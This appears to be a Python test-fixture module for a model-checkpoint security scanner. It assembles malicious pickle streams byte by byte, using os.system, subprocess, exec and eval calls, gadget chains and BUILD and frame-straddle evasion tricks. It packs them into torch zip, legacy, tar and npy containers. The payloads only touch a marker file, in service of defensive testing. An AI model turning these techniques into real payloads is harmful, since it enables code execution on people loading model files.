"""Hand-written malicious (and benign) pickle files for the checkpoint security tests.

Every malicious payload, if a real loader ran it, creates ``marker`` (a file in the test's temporary
directory): shell commands ``touch`` it, Python payloads open it for writing. :func:`payloads` builds
the raw pickle streams with a tiny opcode assembler; :func:`write_malicious` places them in every
container a loader reads (torch zip, legacy format, stacked pickles, concatenated and duplicate-entry
zips, v7 tar, ``.npy``/``.npz``, malformed tails, frame tricks). Each entry says how a real loader
would run it (``runner``), so a test can prove a sample really executes in a throw-away process.
Nothing here is copied from a scanner's test-suite: the attack classes are public, the bytes are ours.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


# --- a tiny opcode assembler -------------------------------------------------------------------------
def g(module: str, name: str) -> bytes:
    """GLOBAL (text, any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with SHORT_BINUNICODE operands (protocol 4)."""
    return s(module) + s(name) + b"\x93"


def s(text: str) -> bytes:
    """A str: SHORT_BINUNICODE or BINUNICODE."""
    b = text.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def by(data: bytes) -> bytes:
    """A bytes object (BINBYTES)."""
    return b"B" + struct.pack("<I", len(data)) + data


def tup(*items: bytes) -> bytes:
    """MARK items TUPLE."""
    return b"(" + b"".join(items) + b"t"


def lst(*items: bytes) -> bytes:
    """EMPTY_LIST MARK items APPENDS."""
    return b"](" + b"".join(items) + b"e"


def reduce(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + tup(*args) + b"R"


def stop(body: bytes, proto: bytes = PROTO2) -> bytes:
    """A complete pickle: PROTO, body, STOP."""
    return proto + body + b"."


# --- payloads -----------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Payload:
    """One malicious pickle stream.

    Attributes:
        data: The bytes.
        runs: Whether ``pickle.loads`` creates the marker (False: flag-only, e.g. it would need the
            network, pip, torch's legacy loader or a class with a dangerous ``__new__``).
    """

    data: bytes
    runs: bool = True


def _calls(marker: Path) -> dict[str, tuple[bytes, bytes, list[bytes]]]:
    """Name -> (module, name, args) of calls that create ``marker``."""
    m = str(marker)
    cmd = f"touch '{m}'"
    code = f"open({m!r}, 'w').close()"
    sh = lst(s("sh"), s("-c"), s(cmd))
    return {
        "os_system": (b"os", b"system", [s(cmd)]),
        "posix_system": (b"posix", b"system", [s(cmd)]),
        "os_popen": (b"os", b"popen", [s(cmd)]),
        "subprocess_call": (b"subprocess", b"call", [sh]),
        "subprocess_check_output": (b"subprocess", b"check_output", [sh]),
        "subprocess_run": (b"subprocess", b"run", [sh]),
        "subprocess_getoutput": (b"subprocess", b"getoutput", [s(cmd)]),
        "builtins_exec": (b"builtins", b"exec", [s(code)]),
        "builtins_eval": (b"builtins", b"eval", [s(code)]),
        "builtins_open": (b"builtins", b"open", [s(m), s("w")]),
        "io_open": (b"io", b"open", [s(m), s("w")]),
        "shutil_copyfile": (b"shutil", b"copyfile", [s("/dev/null"), s(m)]),
        "runpy_run_code": (b"runpy", b"_run_code", [s(code), b"}"]),
        "py2_builtin_eval": (b"__builtin__", b"eval", [s(code)]),
        "py2_commands_getoutput": (b"commands", b"getoutput", [s(cmd)]),
    }


def payloads(marker: Path) -> dict[str, Payload]:
    """Every malicious stream, by name."""
    m = str(marker)
    cmd = f"touch '{m}'"
    code = f"open({m!r}, 'w').close()"
    out: dict[str, Payload] = {}
    for name, (mod, fn, args) in _calls(marker).items():
        module, func = mod.decode(), fn.decode()
        out[f"{name}/reduce_p2"] = Payload(stop(reduce(g(module, func), *args)))
        out[f"{name}/reduce_p0"] = Payload(g(module, func) + b"(" + b"".join(args) + b"tR.")
        out[f"{name}/stack_global_p4"] = Payload(stop(reduce(sg(module, func), *args), PROTO4))
        out[f"{name}/inst"] = Payload(b"(" + b"".join(args) + b"i" + mod + b"\n" + fn + b"\n.")
        out[f"{name}/obj"] = Payload(stop(b"(" + g(module, func) + b"".join(args) + b"o"))
        out[f"{name}/memo_hidden"] = Payload(
            stop(g(module, func) + b"q\x01" + b"0" + s("decoy") + b"0" + b"h\x01" + tup(*args) + b"R")
        )
    # the call as a value inside a dict: EMPTY_DICT MARK k v k v SETITEMS
    for name, (mod, fn, args) in _calls(marker).items():
        out[f"{name}/in_dict_value"] = Payload(
            stop(b"}(" + s("epoch") + b"K\x01" + s("x") + reduce(g(mod.decode(), fn.decode()), *args) + b"u")
        )
    imp = reduce(g("builtins", "__import__"), s("os"))
    out["chain/getattr_import_os_system"] = Payload(
        stop(reduce(reduce(g("builtins", "getattr"), imp, s("system")), s(cmd)))
    )
    out["chain/importlib_os_system"] = Payload(
        stop(
            reduce(
                reduce(g("builtins", "getattr"), reduce(g("importlib", "import_module"), s("os")), s("system")), s(cmd)
            )
        )
    )
    out["chain/methodcaller"] = Payload(stop(reduce(reduce(g("operator", "methodcaller"), s("system"), s(cmd)), imp)))
    out["chain/attrgetter"] = Payload(
        stop(reduce(reduce(reduce(g("operator", "attrgetter"), s("system")), imp), s(cmd)))
    )
    out["chain/functools_partial"] = Payload(stop(reduce(reduce(g("functools", "partial"), g("os", "system"), s(cmd)))))
    out["chain/compile_exec"] = Payload(
        stop(reduce(g("builtins", "exec"), reduce(g("builtins", "compile"), s(code), s("<x>"), s("exec"))))
    )
    out["chain/path_touch"] = Payload(
        stop(reduce(reduce(g("builtins", "getattr"), reduce(g("pathlib", "Path"), s(m)), s("touch"))))
    )
    out["chain/nested_pickle_loads"] = Payload(
        stop(reduce(g("pickle", "loads"), by(stop(reduce(g("os", "system"), s(cmd))))))
    )
    out["chain/nested__pickle_loads"] = Payload(
        stop(reduce(g("_pickle", "loads"), by(stop(reduce(g("posix", "system"), s(cmd))))))
    )
    out["chain/eval_of_harmless_ctor"] = Payload(
        stop(reduce(g("builtins", "eval"), reduce(g("builtins", "str"), s(code))))
    )
    # protocol-4 dotted names through "harmless" modules
    for mod, attr in (
        ("pathlib", "os.system"),
        ("shutil", "os.system"),
        ("tempfile", "_os.system"),
        ("subprocess", "os.system"),
        ("collections", "_sys.modules.posix.system"),
    ):
        out[f"dotted/{mod}+{attr}"] = Payload(stop(reduce(sg(mod, attr), s(cmd)), PROTO4))
    out["dotted/pathlib+os.spawnv"] = Payload(
        stop(reduce(sg("pathlib", "os.spawnv"), b"K\x00", s("/bin/sh"), lst(s("sh"), s("-c"), s(cmd))), PROTO4)
    )
    out["dotted/torch+os.system"] = Payload(stop(reduce(sg("torch", "os.system"), s(cmd)), PROTO4), runs=False)
    out["dotted/ultralytics.utils+subprocess.run"] = Payload(
        stop(reduce(sg("ultralytics.utils", "subprocess.run"), lst(s("sh"), s("-c"), s(cmd))), PROTO4), runs=False
    )
    # BUILD tricks: install __setstate__ (or append/add) on an instance, then trigger it
    for ctor_name, ctor in (
        ("simplenamespace", reduce(g("types", "SimpleNamespace"))),
        ("namespace_newobj", g("argparse", "Namespace") + b")\x81"),
        (
            "reconstructor",
            reduce(g("copyreg", "_reconstructor"), g("argparse", "Namespace"), g("builtins", "object"), b"N"),
        ),
    ):
        out[f"build/setstate_{ctor_name}"] = Payload(
            stop(ctor + b"}(" + s("__setstate__") + g("os", "system") + b"ub" + s(cmd) + b"b")
        )
    out["build/setstate_slotstate"] = Payload(
        stop(
            reduce(g("types", "SimpleNamespace"))
            + b"N}("
            + s("__setstate__")
            + g("os", "system")
            + b"u\x86b"
            + s(cmd)
            + b"b"
        )
    )
    out["build/append_method"] = Payload(
        stop(reduce(g("types", "SimpleNamespace")) + b"}(" + s("append") + g("os", "system") + b"ub" + s(cmd) + b"a")
    )
    out["build/add_method"] = Payload(
        stop(reduce(g("types", "SimpleNamespace")) + b"}(" + s("add") + g("os", "system") + b"ub(" + s(cmd) + b"\x90")
    )
    out["build/on_class_global"] = Payload(
        stop(
            g("argparse", "Namespace")
            + b"N}("
            + s("__setstate__")
            + g("os", "system")
            + b"u\x86b0"
            + g("argparse", "Namespace")
            + b")\x81"
            + s(cmd)
            + b"b"
        )
    )
    # calls outside the allowlist that need the network, pip or torch to act: flagged, not run here
    out["trainer/check_requirements"] = Payload(
        stop(reduce(g("ultralytics.utils.checks", "check_requirements"), s("lrguard-marker-pkg"))), runs=False
    )
    out["trainer/check_requirements_no_args"] = Payload(
        stop(reduce(g("ultralytics.utils.checks", "check_requirements"))), runs=False
    )
    out["trainer/safe_download"] = Payload(
        stop(reduce(g("ultralytics.utils.downloads", "safe_download"), s("http://127.0.0.1:9/x"), s(m))), runs=False
    )
    out["trainer/yolov5_attempt_download"] = Payload(
        stop(reduce(g("utils.downloads", "attempt_download"), s(m))), runs=False
    )
    out["trainer/torch_hub_load"] = Payload(stop(reduce(g("torch.hub", "load"), s("x/y"), s("m"))), runs=False)
    out["trainer/torch_load_nested"] = Payload(stop(reduce(g("torch", "load"), s(m))), runs=False)
    out["trainer/torch_storage_load_from_bytes"] = Payload(
        stop(reduce(g("torch.storage", "_load_from_bytes"), by(stop(reduce(g("os", "system"), s(cmd)))))), runs=False
    )
    out["trainer/unknown_function_with_args"] = Payload(
        stop(reduce(g("somepkg.tools", "do_things"), s(cmd))), runs=False
    )
    out["newobj/newobj_ex_popen"] = Payload(
        stop(g("subprocess", "Popen") + tup(lst(s("sh"), s("-c"), s(cmd))) + b"}\x92", PROTO4), runs=False
    )
    out["newobj/newobj_system"] = Payload(stop(g("os", "system") + tup(s(cmd)) + b"\x81"), runs=False)
    out["newobj/copyreg_newobj_ex"] = Payload(
        stop(reduce(g("copyreg", "__newobj_ex__"), g("subprocess", "Popen"), tup(lst(s("sh"), s("-c"), s(cmd))), b"}")),
        runs=False,
    )
    out["newobj/reconstructor_bad_base"] = Payload(
        stop(
            reduce(
                g("copyreg", "_reconstructor"),
                g("argparse", "Namespace"),
                g("subprocess", "Popen"),
                lst(s("sh"), s("-c"), s(cmd)),
            )
        ),
        runs=False,
    )
    out["newobj/rebuild_from_type_v2_os_system"] = Payload(
        stop(
            reduce(
                g("torch._tensor", "_rebuild_from_type_v2"), g("os", "system"), g("torch", "Tensor"), tup(s(cmd)), b"}"
            )
        ),
        runs=False,
    )
    out["persid/reduce_on_persistent_id"] = Payload(
        stop(tup(s("module"), g("os", "system"), s("x"), s("y")) + b"Q" + tup(s(cmd)) + b"R"), runs=False
    )
    out["ext/extension_code_call"] = Payload(stop(b"\x82\x01" + tup(s(cmd)) + b"R"), runs=False)
    return out


# --- containers ---------------------------------------------------------------------------------------
BENIGN_DICT = pickle.dumps({"epoch": 3, "best_fitness": 0.5, "names": ["a", "b"]}, protocol=2)


def torch_zip(
    data_pkl: bytes, *, prefix: str = "archive", extra: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    """A zip in torch.save's layout (no storages) with ``data_pkl`` as its pickle."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", "little")
        zf.writestr(f"{prefix}/version", "3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", "0123456789")
        for k, v in (extra or {}).items():
            zf.writestr(k, v)
    return buf.getvalue()


def legacy(parts: dict[str, bytes] | None = None) -> bytes:
    """The legacy torch format: magic, protocol, sys-info, main and storage-key pickles (no storages)."""
    p = {
        "magic": pickle.dumps(LEGACY_MAGIC, protocol=2),
        "protocol": pickle.dumps(1001, protocol=2),
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "main": BENIGN_DICT,
        "keys": pickle.dumps([], protocol=2),
    }
    p.update(parts or {})
    return b"".join(p[k] for k in ("magic", "protocol", "sys_info", "main", "keys"))


def tar_v7(members: dict[str, bytes]) -> bytes:
    """A tar archive with old v7 headers (no ``ustar`` marker), as tarfile and torch < 0.4 accept."""
    out = bytearray()
    for name, data in members.items():
        h = bytearray(512)
        h[0 : len(name)] = name.encode()
        h[100:108] = b"0000644\0"
        h[108:116] = b"0000000\0"
        h[116:124] = b"0000000\0"
        h[124:136] = f"{len(data):011o}\0".encode()
        h[136:148] = b"00000000000\0"
        h[148:156] = b" " * 8
        h[156:157] = b"0"
        h[148:156] = f"{sum(h):06o}\0 ".encode()
        out += h + data + b"\0" * (-len(data) % 512)
    return bytes(out + b"\0" * 1024)


def npy_object(pickled: bytes) -> bytes:
    """An ``.npy`` (format 1.0) object array whose data is ``pickled``."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def frame_straddle(hidden: bytes) -> bytes:
    """A pickle that ``pickle.loads`` reads as two strings, and ``pickle.load(file)`` as ``hidden`` code.

    ``hidden`` must push exactly one value and be under 128 bytes. A SHORT_BINUNICODE runs across the end
    of a 4-byte frame: a bytes reader takes its 6 bytes across the frame end, a file reader drops the
    rest of the frame and takes 6 bytes after it, so the two continue at different offsets.
    """
    assert len(hidden) < 128
    frame = b"\x8c\x06ab"  # SHORT_BINUNICODE of 6 bytes, 2 of them inside the frame
    after = b"xxxx" + b"C" + bytes([len(hidden)]) + hidden + b"00N."
    return PROTO4 + b"\x95" + struct.pack("<Q", len(frame)) + frame + after


@dataclass(frozen=True)
class Malicious:
    """A malicious file on disk.

    Attributes:
        path: The file.
        runner: How a real loader runs it (``loads``, ``load_all``, ``file_load``, ``npy``, ``torch``) or
            ``None`` when the payload cannot run offline here.
    """

    path: Path
    runner: str | None


CORE = (
    "os_system/reduce_p2",
    "builtins_exec/stack_global_p4",
    "subprocess_run/inst",
    "chain/getattr_import_os_system",
    "build/setstate_simplenamespace",
    "dotted/pathlib+os.system",
    "posix_system/memo_hidden",
    "builtins_eval/obj",
    "trainer/check_requirements",
    "subprocess_call/in_dict_value",
)


def write_malicious(root: Path, marker: Path) -> dict[str, Malicious]:
    """Write every malicious file under ``root``; return name -> :class:`Malicious`."""
    root.mkdir(parents=True, exist_ok=True)
    pl = payloads(marker)
    files: dict[str, Malicious] = {}

    def put(name: str, data: bytes, runner: str | None) -> None:
        path = root / (name.replace("/", "__").replace("+", "_"))
        path.write_bytes(data)
        files[name] = Malicious(path, runner)

    for name, p in pl.items():
        put(f"raw/{name}.pkl", p.data, "loads" if p.runs else None)
    short = stop(reduce(g("os", "system"), s(f"touch '{marker}'")))
    for name in CORE:
        p = pl[name]
        run = "torch" if p.runs else None
        put(f"zip/{name}.pt", torch_zip(p.data), run)
        put(f"zip_deflated/{name}.pt", torch_zip(p.data, method=zipfile.ZIP_DEFLATED), run)
        put(f"zip_other_prefix/{name}.pt", torch_zip(p.data, prefix="last"), run)
        for part in ("magic", "protocol", "sys_info", "main", "keys"):
            put(f"legacy_{part}/{name}.pt", legacy({part: p.data}), "torch" if p.runs and part != "magic" else None)
        put(f"stacked/{name}.pkl", BENIGN_DICT + p.data, "load_all" if p.runs else None)
        put(f"stacked_zip/{name}.pt", torch_zip(BENIGN_DICT + p.data), None)
        put(f"legacy_stacked/{name}.pt", legacy() + p.data, None)
        put(f"malformed_after/{name}.pkl", p.data[:-1] + b"\xff", "loads" if p.runs else None)
        put(f"truncated_after/{name}.pkl", p.data[:-1], "loads" if p.runs else None)
        put(f"npy_object/{name}.npy", npy_object(p.data), "npy" if p.runs else None)
        put(f"npz/{name}.npz", _npz({"arr_0.npy": npy_object(p.data)}), None)
        put(f"zip_no_data_pkl/{name}.pt", _zip({"payload/payload.pkl": p.data}), None)
        put(
            f"tar_v7/{name}.tar",
            tar_v7(
                {
                    "sys_info": pickle.dumps({}, 2),
                    "pickle": p.data,
                    "storages": pickle.dumps(0, 2),
                    "tensors": pickle.dumps(0, 2),
                }
            ),
            None,
        )
        put(f"concat_bad_first/{name}.pt", torch_zip(p.data) + torch_zip(BENIGN_DICT), None)
        put(f"concat_bad_last/{name}.pt", torch_zip(BENIGN_DICT) + torch_zip(p.data), None)
        put(f"duplicate_bad_last/{name}.pt", _zip({"archive/data.pkl": BENIGN_DICT}, dup=p.data), None)
        put(f"duplicate_bad_first/{name}.pt", _zip({"archive/data.pkl": p.data}, dup=BENIGN_DICT), None)
    put(
        "frames/straddle_os_system.pkl",
        frame_straddle(sg("posix", "system") + s(f"touch '{marker}'") + b"\x85R"),
        "file_load",
    )
    put(
        "frames/straddle_zip.pt",
        torch_zip(frame_straddle(sg("os", "system") + s(f"touch '{marker}'") + b"\x85R")),
        "torch",
    )
    put(
        "frames/straddle_exec.pkl",
        frame_straddle(sg("builtins", "exec") + s(f"open({str(marker)!r},'w').close()") + b"\x85R"),
        "file_load",
    )
    put("deep/payload_after_deep_nesting.pkl", PROTO2 + b"]" * 2000 + b"a" * 1999 + b"0" + short[2:], "loads")
    return files


def _zip(entries: dict[str, bytes], dup: bytes | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for k, v in entries.items():
            zf.writestr(k, v)
        zf.writestr("archive/version", "3\n")
        if dup is not None:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                zf.writestr("archive/data.pkl", dup)
    return buf.getvalue()


def _npz(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for k, v in entries.items():
            zf.writestr(k, v)
    return buf.getvalue()


# --- benign files without torch ----------------------------------------------------------------------
class UserModel:
    """A user's own class, pickled by reference and rebuilt with NEWOBJ/_reconstructor + BUILD."""

    def __init__(self) -> None:
        self.layers = [1, 2, 3]
        self.name = "net"


def write_benign(root: Path) -> dict[str, Path]:
    """Benign pickles a real program writes (no torch needed); name -> path."""
    import argparse
    import collections
    import datetime
    import pathlib
    import types

    import numpy as np

    root.mkdir(parents=True, exist_ok=True)
    objs: dict[str, object] = {
        "dict": {"epoch": 1, "lr": [0.01, 0.02], "nested": {"a": (1, 2.5, None, True)}},
        "ordered": collections.OrderedDict([("a", 1), ("b", 2)]),
        "containers": [set([1, 2]), frozenset("ab"), complex(1, 2), b"raw", bytearray(b"x"), slice(1, 5), range(3)],
        "datetime": datetime.datetime(2024, 1, 2, 3, 4, 5),
        "path": {"weights": pathlib.PurePosixPath("runs/exp/weights/last.pt")},
        "namespace": argparse.Namespace(lr0=0.01, epochs=3),
        "simplenamespace": types.SimpleNamespace(a=1),
        "user_model": UserModel(),
        "defaultdict": collections.defaultdict(list, {"a": [1]}),
        "numpy_array": np.arange(12, dtype=np.float32).reshape(3, 4),
        "numpy_scalars": {"f": np.float64(1.5), "i": np.int64(3)},
        "numpy_in_dict": {"results": np.zeros(5)},
    }
    out: dict[str, Path] = {}
    for name, obj in objs.items():
        for proto in (0, 2, 4, 5):
            p = root / f"{name}_p{proto}.pkl"
            p.write_bytes(pickle.dumps(obj, protocol=proto))
            out[f"{name}_p{proto}"] = p
    hand = {
        "builtin_len": stop(reduce(g("builtins", "len"), lst(b"K\x01", b"K\x02"))),
        "builtin_max": stop(reduce(g("builtins", "max"), b"K\x01", b"K\x02")),
        "class_stored_as_value": stop(b"}(" + s("model_class") + g("mypkg.models", "Net") + b"u"),
        "legacy_plain": legacy(),
        "zip_plain": torch_zip(BENIGN_DICT),
        "deep_lists_100k": PROTO2 + b"]" * 100_000 + b"a" * 99_999 + b".",
        "stacked_benign_zip": torch_zip(BENIGN_DICT),
        "npy_float": b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 118)
        + (b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n")
        + b"\0" * 8,
    }
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    hand["model_safetensors"] = struct.pack("<Q", len(header)) + header + b"\0" * 8
    for name, data in hand.items():
        suffix = (
            ".safetensors"
            if name.endswith("safetensors")
            else ".npy"
            if name.startswith("npy")
            else (".pt" if data[:2] == b"PK" or name.startswith("legacy") else ".pkl")
        )
        p = root / f"{name}{suffix}"
        p.write_bytes(data)
        out[name] = p
    return out


RUNNERS: dict[str, str] = {
    "loads": "import pickle,sys; pickle.loads(open(sys.argv[1],'rb').read())",
    "load_all": "import pickle,sys\nf=open(sys.argv[1],'rb')\nwhile True:\n    pickle.load(f)",
    "file_load": "import io,pickle,sys; pickle.load(io.BytesIO(open(sys.argv[1],'rb').read()))",
    "npy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "torch": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
}


def run_for_real(path: Path, runner: str, timeout: float = 60) -> None:
    """Load ``path`` the way ``runner`` says, in a throw-away interpreter (errors ignored)."""
    import subprocess

    subprocess.run(
        [sys.executable, "-c", RUNNERS[runner], str(path)], capture_output=True, timeout=timeout, check=False
    )


Maker = Callable[[Path], bytes]
